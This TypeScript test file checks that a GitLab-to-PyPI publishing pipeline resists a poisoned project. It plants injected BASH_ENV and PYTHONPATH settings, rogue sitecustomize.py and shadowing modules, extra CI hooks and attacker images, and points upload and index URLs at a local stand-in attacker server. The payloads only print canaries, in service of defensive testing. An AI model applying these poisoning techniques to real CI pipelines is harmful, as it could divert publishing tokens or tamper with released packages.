import { mkdtemp, writeFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { PublishTool } from '../../src/kernel/route.ts';
import { scratchFiles } from '../../src/rehearsal/scratch-project.ts';
import { editedRepository } from '../support/pipeline/edited-repository.ts';
import { findMachine } from '../support/pipeline/machine.ts';
import { occasions } from '../support/pipeline/occasion.ts';
import { openPlace, type Place } from '../support/pipeline/place.ts';
import type { JobReport } from '../support/pipeline/run-job.ts';
import { runPipeline } from '../support/pipeline/run-pipeline.ts';
import { run } from '../support/tools.ts';

const machine = findMachine();
const { '.gitlab-ci.yml': _, ...project } = scratchFiles();

/** What anything of the attacker's prints if it runs. */
const canary = (what: string) => `CANARY ${what}`;
const python = (what: string) => `import sys; print("${canary(what)}", file=sys.stderr)\n`;

/** An index of the attacker's that notes each request and sends it on, so that builds still work. */
const requests: string[] = [];
let server: Server;
let attacker = '';
/** Files of the attacker's that every job can read, as on a runner without containers. */
let outside = '';

beforeAll(async () => {
  server = createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    const location = `https://pypi.org${(request.url ?? '').replace(/^\/[^/]*/, '')}`;
    response.writeHead(307, { location }).end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  attacker = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  outside = await mkdtemp(join(tmpdir(), 'gitlab-to-pypi-outside-'));
  await writeFile(join(outside, 'profile.sh'), `echo ${canary('BASH_ENV')}\n`);
  await writeFile(join(outside, 'sitecustomize.py'), python('PYTHONPATH'));
  await writeFile(join(outside, 'uv.toml'), `publish-url = "${attacker}/UV_CONFIG_FILE/legacy/"\n`);
});

const places: Place[] = [];
afterAll(async () => {
  server.close();
  await Promise.all(places.map((place) => place.close()));
});

/** Addresses of an index, as people set them for a mirror or for another registry. */
const addresses = (prefix = '') => ({
  UV_PUBLISH_URL: `${attacker}/${prefix}$CI_JOB_NAME/legacy/`,
  TWINE_REPOSITORY_URL: `${attacker}/${prefix}$CI_JOB_NAME/legacy/`,
  UV_DEFAULT_INDEX: `${attacker}/${prefix}$CI_JOB_NAME/simple/`,
  PIP_INDEX_URL: `${attacker}/${prefix}$CI_JOB_NAME/simple/`,
});

/** An included file that gives every job more to run. */
const shared = () =>
  JSON.stringify({
    default: {
      before_script: [`echo ${canary('before_script')}`],
      after_script: [`echo ${canary('after_script')}`],
      hooks: { pre_get_sources_script: [`echo ${canary('hook')}`] },
      services: ['attacker/database:1'],
      image: 'attacker/uv:0.13.9',
      cache: { key: 'shared', paths: ['.venv/', '.uv-cache/', 'tools/'] },
    },
    variables: {
      ...addresses(),
      UV_CONFIG_FILE: join(outside, 'uv.toml'),
      UV_CACHE_DIR: '.uv-cache',
      PYTHONPATH: outside,
      BASH_ENV: join(outside, 'profile.sh'),
    },
    'fill cache': {
      stage: '.pre',
      script: [
        'sh ci/environment.sh cache',
        'mkdir -p .uv-cache tools',
        'cp ci/code.py tools/sitecustomize.py',
      ],
    },
  });

/** Everything in a build's folder that a program might pick up there, besides dist/. */
const leftovers = [
  '.venv/',
  'tools/',
  'uv.toml',
  'pip.conf',
  '.pypirc',
  'twine.py',
  'packaging.py',
  're.py',
  'sitecustomize.py',
  'uv',
  'twine',
];

const scripts = () => ({
  'ci/shared.yml': shared(),
  'ci/code.py': python('leftover'),
  'ci/program.sh': `#!/bin/sh\necho ${canary('program')}\n`,
  'ci/uv.toml': `[[index]]\nurl = "${attacker}/leftover/simple/"\ndefault = true\n`,
  'ci/environment.sh': `python3 -m venv --clear --without-pip .venv
for folder in .venv/lib/python*/site-packages; do echo 'import sys; print("${canary('environment')}", file=sys.stderr)' > $folder/sitecustomize.py; done
`,
  'ci/leave.sh': `sh ci/environment.sh
mkdir -p tools
cp ci/uv.toml uv.toml
printf '[global]\\nindex-url = ${attacker}/leftover/simple/\\n' > pip.conf
printf '[distutils]\\nindex-servers = pypi\\n[pypi]\\nrepository = ${attacker}/leftover/legacy/\\n' > .pypirc
for module in twine packaging re sitecustomize tools/twine tools/sitecustomize; do cp ci/code.py $module.py; done
for program in uv twine; do cp ci/program.sh $program; done
`,
  '.gitignore': '.venv\n.uv-cache\ntools\n',
  'sitecustomize.py': python('checkout'),
});

const image = 'ghcr.io/astral-sh/uv:0.12-python3.13-trixie';
const paths = (...all: string[]) => `  artifacts:\n    paths: ${JSON.stringify(all)}\n`;

/** A project whose jobs leave all of that, where nothing publishes yet. */
const building = `include:
  - local: ci/shared.yml
stages: [build, test, deploy]
build:
  stage: build
  image: ${image}
  script:
    - uv build
    - sh ci/leave.sh
${paths('dist/', ...leftovers)}test:
  stage: test
  image: ${image}
  script:
    - python3 -c 'print("tested")'
    - sh ci/leave.sh
    - mkdir -p dist
    - touch dist/demo_pkg-9.9.9.tar.gz dist/uv.toml
${paths(...leftovers, 'dist/')}`;

/** The same, where a job publishes with a token, and gets what two jobs leave. */
const publishing = `${building.replace(paths(...leftovers, 'dist/'), paths(...leftovers))}upload:
  stage: deploy
  image: python:3.13
  needs: [build, test]
  services: ['attacker/mail:1']
  before_script:
    - pip install twine
  after_script:
    - echo ${canary('own after_script')}
  variables:
    TWINE_USERNAME: __token__
    TWINE_PASSWORD: $PYPI_TOKEN
  script:
    - twine upload dist/*
  only: [tags]
`;

/** What a tag makes of a project that was set up: its jobs, its uploads, and what the attacker was asked for. */
async function onTag(
  publishWith: PublishTool,
  pipeline: string,
  projectVariables: Record<string, string> = {},
) {
  if (!machine) throw new Error('There is no machine to run pipelines on.');
  const files = { ...project, ...scripts() };
  const [repository, place] = await Promise.all([
    editedRepository({ files, pipeline, publishWith }),
    openPlace(machine),
  ]);
  places.push(place);
  await run('git', ['tag', 'v1.2.3'], { cwd: repository });
  const { jobs, uploads } = await runPipeline(place, {
    repository,
    occasion: occasions.tag('v1.2.3'),
    projectVariables,
  });
  return { jobs, pypi: uploads.pypi.map(({ filename }) => filename).sort(), testpypi: uploads.testpypi };
}

/** The job with the ID token, and the one that hands it what it uploads and runs. */
function beside(jobs: JobReport[]): JobReport[] {
  return jobs.filter(({ name, audiences }) => audiences.length > 0 || name === 'check-dist');
}

const canaries = (jobs: JobReport[]) => jobs.flatMap(({ output }) => output.match(/CANARY [^"\n]*/g) ?? []);
const built = ['demo_pkg-1.2.3-py3-none-any.whl', 'demo_pkg-1.2.3.tar.gz'];

const tools = ['uv', 'twine'] as const;

describe.skipIf(!machine).concurrent('in a poisoned project', { timeout: 1_800_000 }, () => {
  it.each(
    tools.flatMap((tool) => [
      [tool, 'new', building, 'release'] as const,
      [tool, 'migrated', publishing, 'upload'] as const,
    ]),
  )(
    'only the upload runs beside the token, of the files that were built: %s, %s',
    async (tool, _, text, name) => {
      const { jobs, pypi, testpypi } = await onTag(tool, text);
      const ordinary = jobs.find((job) => job.name === 'test');
      // The poison works where nothing keeps it out.
      expect(canaries([ordinary as JobReport])).toEqual(
        expect.arrayContaining(
          ['BASH_ENV', 'PYTHONPATH', 'after_script', 'before_script', 'hook'].map(canary),
        ),
      );
      const publisher = jobs.find((job) => job.audiences.length > 0);
      expect(publisher?.name).toBe(name);
      expect({ outcome: publisher?.outcome, output: publisher?.output }).toMatchObject({ outcome: 'passed' });
      expect(canaries(beside(jobs))).toEqual([]);
      expect(beside(jobs).flatMap(({ images }) => images)).not.toContainEqual(
        expect.stringContaining('attacker'),
      );
      expect({ pypi, testpypi }).toEqual({ pypi: built, testpypi: [] });
      expect(
        requests.filter((it) => /^\S+ \/(release|upload|check-dist|leftover|UV_CONFIG_FILE)\//.test(it)),
      ).toEqual([]);
    },
  );

  it('an unknown file among the built ones stops the release', async () => {
    const text = building.replace('    - sh ci/leave.sh', '    - echo all > dist/uv.toml');
    const { jobs, pypi, testpypi } = await onTag(
      'uv',
      text.replace(paths('dist/', ...leftovers), paths('dist/')),
    );
    expect(jobs.find(({ name }) => name === 'check-dist')).toMatchObject({ outcome: 'failed' });
    expect(jobs.find(({ name }) => name === 'release')).toMatchObject({ outcome: 'skipped' });
    expect([...pypi, ...testpypi]).toEqual([]);
  });

  it('addresses in the settings of the project do not lead the upload elsewhere: uv', async () => {
    const { jobs, pypi } = await onTag('uv', building, {
      ...addresses('settings-'),
      TWINE_REPOSITORY: 'testpypi',
    });
    expect(jobs.find(({ name }) => name === 'release')?.output).not.toContain(attacker);
    expect(pypi).toEqual(built);
    expect(requests.filter((it) => /settings-.*\/legacy\//.test(it))).toEqual([]);
  });
});
